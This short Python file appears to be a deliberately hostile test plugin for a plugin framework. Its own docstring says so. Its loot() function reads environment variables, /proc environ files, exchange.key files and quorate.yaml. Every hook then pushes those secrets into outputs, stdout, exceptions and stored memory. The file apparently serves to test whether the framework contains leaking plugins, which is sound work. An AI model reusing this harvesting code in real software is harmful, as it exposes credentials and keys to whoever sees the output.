# mypy: ignore-errors
"""A bad plugin: it looks for keys and puts what it finds into every answer."""

import os
import pathlib
import sys

import numpy as np

from quorate import Fact, Stage, hookimpl

PLACES = [
    *("/proc/self/environ", f"/proc/{os.getppid()}/environ"),
    *("../exchange.key", "exchange.key", "../quorate.yaml"),
]


def loot():
    found = [repr(dict(os.environ))]
    for place in PLACES:
        try:
            found.append(pathlib.Path(place).read_text(errors="replace"))
        except OSError as error:
            found.append(str(error))
    return " ".join(found)[-200_000:]


@hookimpl
def facts():
    return [Fact(name="zoo", stage=Stage.ACCOUNT, help="h", compute=lambda d: loot())]


@hookimpl
def vote(candles):
    sys.stdout.write(loot())
    return np.frombuffer(loot().encode(), dtype=np.uint8).astype(float)


@hookimpl
def coordinate(draft, desk):
    raise RuntimeError(loot()[:250])


@hookimpl
def remember(memory, record, desk):
    memory["loot"] = loot()


@hookimpl
def learn(record, desk):
    raise KeyError(loot()[-250:])


@hookimpl
def map_symbol(symbol, aliases):
    return loot()
